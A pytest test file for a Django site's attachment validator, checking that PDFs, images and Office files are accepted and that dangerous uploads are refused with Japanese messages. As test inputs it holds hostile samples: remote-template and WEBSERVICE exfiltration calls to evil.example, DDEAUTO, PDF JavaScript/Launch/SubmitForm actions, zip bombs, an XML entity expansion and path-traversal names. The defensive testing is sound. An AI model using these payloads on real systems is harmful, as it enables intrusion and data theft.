"""A file is taken for what it contains, not for what it is called."""

import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from tenken_site.notices.file_kinds import LARGEST, AttachmentRefused, checked
from tenken_site.notices.models import Attachment, Notice
from tests.factories import notices
from tests.factories.browsers import signed_in
from tests.factories.people import Cast


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("依頼.pdf", notices.PDF, "application/pdf"),
        ("図.PNG", notices.PNG, "image/png"),
        ("写真.jpeg", notices.JPEG, "image/jpeg"),
        ("写真.jpg", notices.JPEG, "image/jpeg"),
        ("要領.docx", notices.office_file("docx"), "wordprocessingml.document"),
        ("名簿.xlsx", notices.office_file("xlsx"), "spreadsheetml.sheet"),
    ],
)
def test_documents_and_pictures_are_taken(name: str, content: bytes, content_type: str) -> None:
    known = checked(name=name, content=content)

    assert known.content_type.endswith(content_type)
    assert known.name == name


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("空.pdf", b"", "空のファイル"),
        ("依頼.exe", b"MZ" + b"\x00" * 40, "添付できない種類"),
        ("依頼", notices.PDF, "添付できない種類"),
        ("依頼.pdf", notices.PNG, "名前の種類と違います"),
        ("依頼.pdf", b"MZ" + b"\x00" * 40, "名前の種類と違います"),
        ("要領.docx", notices.office_file("xlsx"), "名前の種類と違います"),
        ("要領.docx", b"PK\x03\x04" + b"\x00" * 40, "読み取れません"),
        ("要領.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "古い形式"),
        ("要領.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "パスワード"),
        ("集計.xlsm", notices.office_file("xlsx"), "マクロ"),
        ("集計.xlsx", notices.office_file("xlsx", parts={"xl/vbaProject.bin": b"x"}), "マクロ"),
        ("集計.xlsx", notices.office_file("xlsx", parts={"xl/macrosheets/sheet1.xml": b"x"}), "マクロ"),
        ("大.pdf", notices.PDF + b"\x00" * LARGEST, "10MBを超えています"),
    ],
)
def test_everything_else_is_refused_with_the_reason(name: str, content: bytes, said: str) -> None:
    with pytest.raises(AttachmentRefused, match=said):
        checked(name=name, content=content)


def test_a_file_that_would_grow_without_measure_is_refused_by_what_it_declares() -> None:
    bomb = notices.office_file("docx", parts={"word/media/a.bin": b"\x00" * 20_000_000})
    assert len(bomb) < 100_000

    with pytest.raises(AttachmentRefused, match="開くと大きくなりすぎる"):
        checked(name="要領.docx", content=bomb)


def relations(kind: str, target: str, mode: str = "External") -> bytes:
    """The relations of a Word document."""
    return (
        f'<Relationships><Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="{mode}"/>'
        "</Relationships>"
    ).encode()


RELATIONS = "word/_rels/settings.xml.rels"


@pytest.mark.parametrize(
    ("part", "content"),
    [
        (RELATIONS, relations("attachedTemplate", "https://evil.example/t.dotm")),
        (RELATIONS, relations("image", "https://evil.example/seen.png")),
        (RELATIONS, relations("oleObject", "file://evil.example/share/x")),
        (RELATIONS, relations("hyperlink", "javascript:alert(1)")),
        ("word/embeddings/Book1.xlsx", b"PK\x03\x04"),
        ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
        ("word/media/image1.svg", b"<svg/>"),
        ("word/media/image1.png", b"PK\x03\x04 an archive under another name"),
        ("word/media/image2.png", b"MZ a program"),
        ("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
        ("word/document2.xml", b"<w:p><w:instrText>DDEAUTO c:\\\\windows</w:instrText></w:p>"),
        ("xl/worksheets/sheet1.xml", b'<c><f>WEBSERVICE("https://evil.example/"&amp;A1)</f></c>'),
    ],
)
def test_an_office_file_that_reaches_out_is_refused(part: str, content: bytes) -> None:
    with pytest.raises(AttachmentRefused, match="ほかのファイルやサイト"):
        checked(name="要領.docx", content=notices.office_file("docx", parts={part: content}))


def test_a_link_that_a_person_clicks_is_no_harm() -> None:
    linked = notices.office_file("docx", parts={RELATIONS: relations("hyperlink", "https://www.mhlw.go.jp/")})

    assert checked(name="要領.docx", content=linked).name == "要領.docx"


@pytest.mark.parametrize(
    "content",
    [
        b'<!DOCTYPE a [<!ENTITY l "ha"><!ENTITY m "&l;&l;">]><a>&m;</a>',
        '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16"),
    ],
)
def test_definitions_and_hidden_letters_in_an_office_file_are_refused(content: bytes) -> None:
    with pytest.raises(AttachmentRefused, match="読み取れません"):
        checked(name="要領.docx", content=notices.office_file("docx", parts={"word/styles.xml": content}))


def test_a_part_that_lies_about_its_size_is_found_out() -> None:
    bomb = bytearray(notices.office_file("docx", parts={"word/media/a.png": b"\x00" * 20_000_000}))
    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = bomb.rindex(mark)
        bomb[at + place : at + place + 4] = struct.pack("<I", 100)

    with pytest.raises(AttachmentRefused):
        checked(name="要領.docx", content=bytes(bomb))


ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"


@pytest.mark.parametrize(
    "inside",
    [
        ACTION,
        ACTION.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4AS"),
        b"<< /S /Launch /F (cmd.exe) >>",
        b"<< /S /SubmitForm /F (https://evil.example/) >>",
        b"<< /Names << /EmbeddedFiles 3 0 R >> >>",
        b"<< /AcroForm << /XFA 5 0 R >> >>",
        b"<< /Filter /FlateDecode >>\nstream\r\n" + zlib.compress(b"1 0 " + ACTION) + b"\nendstream",
    ],
)
def test_a_pdf_that_acts_by_itself_is_refused(inside: bytes) -> None:
    with pytest.raises(AttachmentRefused, match="開くと動く仕掛け"):
        checked(name="依頼.pdf", content=notices.PDF + inside)


def test_a_pdf_that_only_shows_is_taken_whatever_its_streams_hold() -> None:
    bomb = zlib.compress(b"\x00" * 30_000_000)
    content = notices.PDF + b"stream\n" + bomb + b"\nendstream stream\nx\x00broken /JSON (JavaScript)"

    assert checked(name="依頼.pdf", content=content).content_type == "application/pdf"


def test_a_locked_part_of_an_office_file_is_refused() -> None:
    content = bytearray(notices.office_file("docx"))
    at = content.index(b"PK\x01\x02")
    content[at + 8 : at + 10] = struct.pack("<H", 1)

    with pytest.raises(AttachmentRefused, match="読み取れません"):
        checked(name="要領.docx", content=bytes(content))


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("C:\\書類\\依頼.pdf", "依頼.pdf"),
        ("../../etc/依頼.pdf", "依頼.pdf"),
        ("依\u202e頼\x00\n.pdf", "依頼.pdf"),
        ("あ" * 300 + ".pdf", "あ" * 116 + ".pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("lpt1.tar.pdf", "_lpt1.tar.pdf"),
        ('a<b>:"|?*.pdf', "ab.pdf"),
    ],
)
def test_a_name_is_cleaned_and_keeps_its_ending(given: str, kept: str) -> None:
    assert checked(name=given, content=notices.PDF).name == kept


@settings(max_examples=200)
@given(
    name=st.text(max_size=200),
    ending=st.sampled_from(["", ".pdf", ".PDF", ".docx", ".xlsx", ".png", ".jpg", ".exe", ".docm"]),
    head=st.sampled_from([b"", notices.PDF, notices.PNG, notices.JPEG, b"PK\x03\x04", notices.office_file("xlsx")]),
    rest=st.binary(max_size=200),
)
def test_whatever_is_sent_is_known_or_refused_in_words(name: str, ending: str, head: bytes, rest: bytes) -> None:
    try:
        known = checked(name=name + ending, content=head + rest)
    except AttachmentRefused:
        return

    assert ending.lower() in {".pdf", ".docx", ".xlsx", ".png", ".jpg"}
    assert 0 < len(known.name) <= 120
    assert not set(known.name) & set("/\\\n\x00")


def sends(client: Client, notice: Notice, name: str, content: bytes) -> str:
    """Attaches a file on the page; what the page then says."""
    address = reverse("notice-attach", args=[notice.campaign.slug, notice.pk])
    return client.post(address, {"file": SimpleUploadedFile(name, content)}, follow=True).content.decode()


def test_the_ministry_attaches_a_file_once_and_takes_it_off_again(cast: Cast) -> None:
    client, notice = signed_in(cast.ministry), notices.draft(cast.campaign)

    said = sends(client, notice, "依頼.pdf", notices.PDF)
    sends(client, notice, "依頼.pdf", notices.PDF)

    assert "ファイルを添付しました" in said
    file = Attachment.objects.get()
    assert (file.name, file.size, bytes(file.document)) == ("依頼.pdf", len(notices.PDF), notices.PDF)
    client.post(reverse("notice-detach", args=[cast.campaign.slug, notice.pk, file.pk]))
    assert not Attachment.objects.exists()


def test_a_refused_file_leaves_nothing_and_the_page_says_why(cast: Cast) -> None:
    client, notice = signed_in(cast.ministry), notices.draft(cast.campaign)

    said = sends(client, notice, "依頼.pdf", b"MZ" + b"\x00" * 40)

    assert "中身が、名前の種類と違います" in said
    assert not Attachment.objects.exists()


def test_no_file_at_all_is_said_in_words(cast: Cast) -> None:
    client, notice = signed_in(cast.ministry), notices.draft(cast.campaign)

    said = client.post(reverse("notice-attach", args=[cast.campaign.slug, notice.pk]), {}, follow=True)

    assert "ファイルを選んでから" in said.content.decode()


def test_an_eleventh_file_is_refused(cast: Cast) -> None:
    client, notice = signed_in(cast.ministry), notices.draft(cast.campaign)
    for number in range(10):
        sends(client, notice, f"{number}.pdf", notices.PDF + str(number).encode())

    said = sends(client, notice, "11.pdf", notices.PDF + b"eleven")

    assert "10個まで" in said
    assert notice.attachments.count() == 10


def test_a_file_of_two_megabytes_is_taken_and_one_of_twelve_is_refused_unread(cast: Cast) -> None:
    client, notice = signed_in(cast.ministry), notices.draft(cast.campaign)

    sends(client, notice, "大.pdf", notices.PDF + b"\x00" * 2_000_000)
    too_large = sends(client, notice, "大.pdf", notices.PDF + b"\x00" * 12_000_000)

    assert notice.attachments.count() == 1
    assert "ファイルが大きすぎて受け取れませんでした" in too_large


def test_every_other_address_keeps_the_general_limit(cast: Cast) -> None:
    client = signed_in(cast.ministry)

    answer = client.post(reverse("notice-new", args=[cast.campaign.slug]), {"body": "あ" * 1_000_000})

    assert answer.status_code == 413


def test_an_attachment_is_saved_under_its_name_and_never_shown_in_the_site(cast: Cast) -> None:
    notice = notices.draft(cast.campaign)
    sends(signed_in(cast.ministry), notice, "依頼.pdf", notices.PDF)
    address = reverse("attachment", args=[cast.campaign.slug, notice.pk, Attachment.objects.get().pk])

    answer = signed_in(cast.ministry).get(address)

    assert b"".join(answer.streaming_content) == notices.PDF
    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in answer.headers["Content-Security-Policy"]
    assert signed_in(cast.chiba).get(address).status_code == 404  # a draft's file
